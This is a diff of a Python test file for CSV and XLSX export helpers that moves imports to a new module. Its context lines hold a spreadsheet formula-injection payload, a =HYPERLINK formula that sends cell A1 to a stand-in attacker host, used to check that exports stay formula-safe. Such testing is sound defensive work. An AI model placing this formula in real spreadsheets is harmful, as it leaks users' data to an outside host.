@@ -11,7 +11,7 @@ import pytest
 
 from app.extensions import db
 from app.platform.audit import AuditEvent
-from app.readiness.exports import csv_lines, xlsx_bytes
+from app.web.table_export import csv_lines, xlsx_bytes
 from tests.conftest import csrf_token_from, login_as
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -148,8 +148,8 @@ def test_the_default_csv_is_unchanged_for_callers_without_a_locale():
 
 
 def test_csv_lines_in_french_use_semicolons_and_decimal_commas_and_stay_formula_safe():
-    from app.readiness.exports import Percent
     from app.web.csv_export import csv_dialect_for
+    from app.web.table_export import Percent
 
     lines = list(
         csv_lines(
@@ -220,7 +220,7 @@ def test_xlsx_has_real_dates_numbers_and_percentages(client, scene):
 def test_xlsx_bytes_writes_dates_and_percent_cells():
     from openpyxl import load_workbook
 
-    from app.readiness.exports import Percent
+    from app.web.table_export import Percent
 
     data = xlsx_bytes(
         "t",
